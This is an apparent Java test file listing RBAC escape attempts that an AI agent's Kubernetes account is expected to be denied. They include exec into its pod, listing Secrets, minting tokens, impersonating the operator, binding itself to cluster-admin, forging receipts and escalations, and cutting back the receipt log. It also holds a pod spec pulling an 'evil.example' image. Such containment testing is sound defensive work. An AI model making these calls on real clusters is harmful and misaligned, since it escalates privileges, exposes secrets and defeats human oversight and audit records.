package ai.prismer.claw.testkit.attack;

import ai.prismer.claw.testkit.attack.Attack.Identity;
import ai.prismer.claw.testkit.attack.Attack.Twin;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

/** What the agent's account was never granted. */
final class RbacAttacks {
  private static final Guard RBAC = new Guard.Rbac();

  private RbacAttacks() {}

  static List<Attack> all() {
    List<Attack> attacks = new ArrayList<>(onOurKinds());
    attacks.addAll(onOthers());
    return attacks;
  }

  private static List<Attack> onOurKinds() {
    List<Attack> attacks = new ArrayList<>();
    attacks.add(lacksRight("create a Claw", t -> Call.post(t.claws(), Bodies.claw("attack"))));
    attacks.add(lacksRight("delete its own Claw", t -> Call.delete(t.self())));
    attacks.add(lacksRight("delete all Claws", t -> Call.delete(t.claws())));
    attacks.add(
        new Attack(
            "replace its own Claw",
            RBAC,
            t -> Call.put(t.self(), Bodies.claw(t.claw())),
            Moves.manages(t -> Call.merge(t.self(), "{}"))));
    attacks.add(
        lacksRight(
            "patch another Claw",
            t -> Call.merge(t.other(), "{\"metadata\":{\"labels\":{\"a\":\"b\"}}}")));
    attacks.add(
        new Attack(
            "patch a Claw in another namespace",
            RBAC,
            t -> Call.merge(t.clawElsewhere(), "{}"),
            Moves.manages(t -> Call.merge(t.self(), "{}"))));
    attacks.add(
        new Attack(
            "write its own status",
            RBAC,
            t -> Call.merge(t.self() + "/status", "{\"status\":{\"phase\":\"Failed\"}}"),
            Moves.operates(
                t -> Call.merge(t.self() + "/status", "{\"status\":{\"phase\":\"Failed\"}}"))));
    attacks.add(
        new Attack(
            "forge a receipt",
            RBAC,
            t -> Call.post(t.receipts(), Bodies.receipt("forged", t)),
            Moves.operates(t -> Call.post(t.receipts(), Bodies.receipt("forged", t)))));
    attacks.add(
        new Attack(
            "forge an escalation",
            RBAC,
            t -> Call.post(t.escalations(), Bodies.escalation("forged", t)),
            Moves.operates(t -> Call.post(t.escalations(), Bodies.escalation("forged", t)))));
    return attacks;
  }

  private static List<Attack> onOthers() {
    Function<Target, Call> token =
        t ->
            Call.post(
                t.core("serviceaccounts/default/token"),
                "{\"apiVersion\":\"authentication.k8s.io/v1\",\"kind\":\"TokenRequest\",\"spec\":{}}");
    return List.of(
        new Attack(
            "run a command in its pod",
            RBAC,
            t -> Call.post(t.core("pods/" + t.claw() + "-0/exec?command=id&stdout=true"), "{}"),
            may("create", "pods", "exec")),
        new Attack(
            "make a pod",
            RBAC,
            t -> Call.post(t.core("pods"), pod()),
            Moves.manages(t -> Call.post(t.core("pods"), pod()))),
        new Attack(
            "patch its StatefulSet",
            RBAC,
            t ->
                Call.merge(
                    t.group("apps/v1", "statefulsets/" + t.claw()), "{\"spec\":{\"replicas\":1}}"),
            may("patch", "statefulsets", "")),
        new Attack(
            "list the Secrets",
            RBAC,
            t -> Call.get(t.core("secrets")),
            new Twin(Identity.ADMINISTRATOR, t -> Call.get(t.core("secrets")))),
        new Attack("make itself a token", RBAC, token, Moves.manages(token)),
        new Attack(
            "act as the operator",
            RBAC,
            t -> Call.get(t.self()).as(t.operator()),
            new Twin(Identity.ADMINISTRATOR, t -> Call.get(t.self()).as(t.operator()))),
        new Attack(
            "bind itself to cluster-admin",
            RBAC,
            t -> Call.post(t.group("rbac.authorization.k8s.io/v1", "rolebindings"), binding(t)),
            Moves.manages(t ->
                Call.post(t.group("rbac.authorization.k8s.io/v1", "rolebindings"), binding(t)))),
        new Attack(
            "cut the receipt log back",
            RBAC,
            t ->
                Call.merge(
                    "/api/v1/namespaces/" + t.operatorNamespace() + "/configmaps/k8s4claw-log",
                    "{}"),
            new Twin(
                Identity.OPERATOR,
                t -> Call.get("/api/v1/namespaces/" + t.operatorNamespace() + "/configmaps"))));
  }

  private static Attack lacksRight(String name, Function<Target, Call> call) {
    return new Attack(name, RBAC, call, Moves.manages(call));
  }

  private static Twin may(String verb, String resource, String subresource) {
    return new Twin(
        Identity.ADMINISTRATOR,
        target ->
            Call.post(
                "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
                Bodies.mayI(target, verb, resource, subresource)));
  }

  private static String pod() {
    return """
    {"apiVersion":"v1","kind":"Pod","metadata":{"name":"attack"},
     "spec":{"securityContext":{"runAsNonRoot":true,"runAsUser":1000,"seccompProfile":{"type":"RuntimeDefault"}},
     "containers":[{"name":"a","image":"evil.example/agent:1",
     "securityContext":{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]}}}]}}\
    """;
  }

  private static String binding(Target target) {
    return """
    {"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"attack"},
     "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},
     "subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"%s"}]}\
    """
        .formatted(target.agent());
  }
}
